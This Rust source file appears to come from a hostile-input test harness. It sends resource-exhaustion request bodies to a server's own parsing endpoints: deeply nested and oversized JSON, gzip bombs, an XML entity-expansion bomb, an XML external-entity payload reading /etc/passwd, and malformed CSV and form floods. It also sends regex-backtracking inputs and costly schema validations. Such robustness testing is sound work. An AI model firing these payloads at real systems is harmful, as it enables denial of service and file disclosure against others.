//! Bodies that cost more than they weigh: JSON, XML, CSV, forms, gzip, expressions, schemas.

use std::io;

use super::{Attack, attack};
use crate::campaign::hostile::attacker::Attacker;
use crate::campaign::hostile::wire::deflate::{gzip_zeros, zeros};

pub const ATTACKS: &[Attack] = &[
    attack("json-deep", "JSON", "150,000 levels", 4, 3, json_deep),
    attack(
        "json-numbers",
        "JSON",
        "numbers of 100,000 digits",
        4,
        3,
        json_numbers,
    ),
    attack(
        "json-large",
        "JSON",
        "900 kB of small values",
        4,
        3,
        json_large,
    ),
    attack(
        "json-keys",
        "JSON",
        "80,000 keys, the same or others",
        4,
        3,
        json_keys,
    ),
    attack(
        "json-invalid",
        "JSON",
        "texts that are not JSON",
        4,
        3,
        json_invalid,
    ),
    attack(
        "gzip-bombs",
        "gzip",
        "60 kB that become 60 MB, 30 at once",
        30,
        5,
        gzip_bombs,
    ),
    attack(
        "xml-bombs",
        "XML",
        "entities, depth, width, attributes",
        4,
        3,
        xml_bombs,
    ),
    attack(
        "json-to-xml",
        "XML",
        "lists under a name of 5 kB",
        4,
        5,
        json_to_xml,
    ),
    attack(
        "to-xml",
        "XML",
        "the same by toxml and encode",
        4,
        5,
        to_xml,
    ),
    attack(
        "to-form",
        "form",
        "the same by toform and encode",
        4,
        5,
        to_form,
    ),
    attack(
        "to-csv",
        "CSV",
        "wide and long tables by tocsv and encode",
        4,
        5,
        to_csv,
    ),
    attack(
        "csv",
        "CSV",
        "500,000 fields, open quotes, odd lines",
        4,
        3,
        csv,
    ),
    attack(
        "forms",
        "form",
        "300,000 fields, odd escapes, parts",
        4,
        3,
        forms,
    ),
    attack(
        "jq-costly",
        "jq",
        "each value of 900 kB, sorted, as text",
        10,
        5,
        jq_costly,
    ),
    attack(
        "jq-shared",
        "jq",
        "one text 2000 times in a reply",
        4,
        5,
        jq_shared,
    ),
    attack(
        "patterns",
        "jq",
        "texts for regular expressions that go back",
        4,
        3,
        patterns,
    ),
    attack(
        "validate-recursive",
        "schema",
        "depth 10 to 24 of anyOf",
        4,
        5,
        validate_recursive,
    ),
    attack(
        "validate-large",
        "schema",
        "60,000 items, uniqueItems, pattern",
        4,
        5,
        validate_large,
    ),
];

/// Where JSON is read.
const READERS: [&str; 5] = [
    "/json",
    "/costly",
    "/json-to-xml",
    "/validate",
    "/topics/flooded",
];

fn json_deep(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&READERS);
    let depth = [127, 500, 10_000, 150_000][attacker.random.usize(..4)];
    let body = match attacker.random.u8(..3) {
        0 => "[".repeat(depth),
        1 => format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
        _ => format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth)),
    };
    attacker.post_json(path, &body)
}

fn json_numbers(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&READERS);
    let body = match attacker.random.u8(..5) {
        0 => "9".repeat(900_000),
        1 => format!("[{}1]", format!("{},", "9".repeat(100_000)).repeat(8)),
        2 => "1e999999999".to_owned(),
        3 => "[1e-999999999,-0,1E+0000000000000000009]".to_owned(),
        _ => format!("[{}1]", "0.1,".repeat(200_000)),
    };
    attacker.post_json(path, &body)
}

fn json_large(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&READERS);
    let value = attacker.any(&[
        "[],",
        "{},",
        "null,",
        "\"\\u00e4\",",
        "{\"a\":1},",
        "\"a\",",
    ]);
    let body = format!("[{}0]", value.repeat(900_000 / value.len()));
    attacker.post_json(path, &body)
}

fn json_keys(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&READERS);
    let is_same = attacker.random.bool();
    let member = |it: u32| match is_same {
        true => "\"a\":1,".to_owned(),
        false => format!("\"k{it}\":1,"),
    };
    let members: String = (0..70_000).map(member).collect();
    attacker.post_json(path, &format!("{{{members}\"z\":0}}"))
}

fn json_invalid(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&READERS);
    let body: &[u8] = attacker.any::<[u8]>(&[
        b"\xef\xbb\xbf{}",
        b"{\"a\":\"\0\"}",
        b"\"\\ud800\"",
        b"\"\xff\xfe\"",
        b"NaN",
        b"[1,]",
        b"{} {}",
        b"/* */ 1",
        b"\xff\xfe{\0}\0",
        b"",
    ]);
    attacker.post(path, "Content-Type: application/json\r\n", body)
}

fn gzip_bombs(attacker: &mut Attacker) -> io::Result<()> {
    let size = [1, 30, 60, 100][attacker.random.usize(..4)] << 20;
    match attacker.random.u8(..4) {
        0 => {
            let headers = "Content-Type: application/json\r\nContent-Encoding: gzip\r\n";
            attacker.post("/any-body", headers, &gzip_zeros(size))
        }
        1 => {
            let mut torn = gzip_zeros(size);
            torn.truncate(torn.len() / 2);
            attacker.post("/decode-gzip", "", &torn)
        }
        2 => {
            let members = gzip_zeros(1000).repeat(9000);
            attacker.post("/decode-gzip", "", &members)
        }
        // Its checksum is wrong, which shows at the end.
        _ => {
            let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
            let bomb = [&head[..], &zeros(size, true), &[0; 8]].concat();
            attacker.post("/decode-gzip", "", &bomb)
        }
    }
}

fn xml_bombs(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&["/xml-to-json", "/any-body", "/soap"]);
    let body = match attacker.random.u8(..8) {
        0 => {
            let mut text = String::from("<!DOCTYPE a [<!ENTITY e0 \"lol\">");
            for at in 1..10 {
                let uses = format!("&e{};", at - 1).repeat(10);
                text += &format!("<!ENTITY e{at} \"{uses}\">");
            }
            text + "]><a>&e9;</a>"
        }
        1 => "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>".to_owned(),
        2 => "<a>".repeat(200_000),
        3 => format!("<a>{}</a>", "<b/>".repeat(200_000)),
        4 => {
            let attributes: String = (0..60_000).map(|it| format!(" a{it}=''")).collect();
            format!("<a{attributes}/>")
        }
        5 => format!("<a>{}</a>", "&#65;".repeat(150_000)),
        6 => format!("<a xmlns:{}='x'/>", "p".repeat(800_000)),
        _ => format!("<a><!-- {}</a>", "-".repeat(800_000)),
    };
    let media = attacker.any(&["application/xml", "text/xml"]);
    attacker.post(path, &format!("Content-Type: {media}\r\n"), body.as_bytes())
}

/// A list under a long name, which XML and forms repeat for each entry.
fn long_name(attacker: &mut Attacker) -> String {
    let count = [2000, 10_000, 20_000, 80_000, 400_000][attacker.random.usize(..5)];
    let length = [100, 5000][attacker.random.usize(..2)];
    format!("{{\"{}\":[{}1]}}", "k".repeat(length), "1,".repeat(count))
}

fn json_to_xml(attacker: &mut Attacker) -> io::Result<()> {
    let body = long_name(attacker);
    attacker.post_json("/json-to-xml", &body)
}

fn to_xml(attacker: &mut Attacker) -> io::Result<()> {
    let body = long_name(attacker);
    let path = attacker.any(&["/toxml", "/encode-xml"]);
    attacker.post_json(path, &body)
}

fn to_form(attacker: &mut Attacker) -> io::Result<()> {
    let body = long_name(attacker);
    let path = attacker.any(&["/toform", "/encode-form"]);
    attacker.post_json(path, &body)
}

fn to_csv(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&["/tocsv", "/encode-csv"]);
    let columns = [1000, 4000, 12_000][attacker.random.usize(..3)];
    let names = (0..columns).map(|it| format!("\"c{it}\":1"));
    let first = names.collect::<Vec<_>>().join(",");
    let body = match attacker.random.u8(..2) {
        // The first row has all columns, and the others have none.
        0 => {
            let rows = [1000, 20_000, 40_000][attacker.random.usize(..3)];
            format!("[{{{first}}}{}]", ",{}".repeat(rows))
        }
        _ => format!("[{{{first}}},{{{first}}}]"),
    };
    attacker.post_json(path, &body)
}

fn csv(attacker: &mut Attacker) -> io::Result<()> {
    let body = match attacker.random.u8(..6) {
        0 => ",".repeat(500_000),
        1 => "a\n".repeat(400_000),
        2 => format!("a,b\n\"{}", "\"\"".repeat(400_000)),
        3 => format!("{}\n{}\n", "a,".repeat(200_000), "1,".repeat(200_000)),
        4 => "a\"b,\"c\"d\"\r\r\n\0".repeat(50_000),
        _ => "\r".repeat(900_000),
    };
    attacker.post("/decode-csv", "Content-Type: text/csv\r\n", body.as_bytes())
}

fn forms(attacker: &mut Attacker) -> io::Result<()> {
    let (media, body) = match attacker.random.u8(..5) {
        0 => ("application/x-www-form-urlencoded", "a=b&".repeat(200_000)),
        1 => (
            "application/x-www-form-urlencoded",
            "&=%zz%%=+".repeat(90_000),
        ),
        2 => (
            "application/x-www-form-urlencoded",
            format!("a={}", "%00".repeat(300_000)),
        ),
        3 => (
            "multipart/form-data; boundary=b",
            "--b\r\n\r\n\r\n".repeat(80_000),
        ),
        _ => (
            "multipart/form-data; boundary=\"",
            "--\r\nA: b\r\n".repeat(80_000),
        ),
    };
    let path = attacker.any(&["/decode-form", "/any-body"]);
    attacker.post(path, &format!("Content-Type: {media}\r\n"), body.as_bytes())
}

fn jq_costly(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&["/costly", "/sorted"]);
    let value = attacker.any(&["1,", "\"a\",", "[[]],", "{\"a\":[1]},"]);
    let body = format!("[{}0]", value.repeat(900_000 / value.len()));
    attacker.post_json(path, &body)
}

fn jq_shared(attacker: &mut Attacker) -> io::Result<()> {
    let count = [18, 150, 2000, 100_000][attacker.random.usize(..4)];
    let length = [1000, 100_000, 500_000][attacker.random.usize(..3)];
    let body = format!("{{\"n\":{count},\"t\":\"{}\"}}", "x".repeat(length));
    attacker.post_json("/shared", &body)
}

fn patterns(attacker: &mut Attacker) -> io::Result<()> {
    let text = attacker.any(&["a", "x", "ab", "\u{e4}"]);
    let length = [30, 5000, 200_000][attacker.random.usize(..3)];
    attacker.post_json(
        "/pattern",
        &format!("{{\"t\":\"{}!\"}}", text.repeat(length)),
    )
}

fn validate_recursive(attacker: &mut Attacker) -> io::Result<()> {
    let depth = attacker.random.usize(10..25);
    let body = format!(
        "{}{{\"kind\":\"other\"}}{}",
        "{\"kind\":\"group\",\"child\":".repeat(depth),
        "}".repeat(depth)
    );
    attacker.post_json("/validate", &body)
}

fn validate_large(attacker: &mut Attacker) -> io::Result<()> {
    let item = |it: u64| match it % 2 {
        0 => format!("{{\"a\":{it}}}"),
        _ => format!("\"{}{it}\"", "a".repeat(20)),
    };
    let is_objects = attacker.random.u64(..2);
    let items = (0..40_000).map(|it| item(it * 2 + is_objects));
    let body = items.collect::<Vec<_>>().join(",");
    attacker.post_json("/unique", &format!("[{body}]"))
}
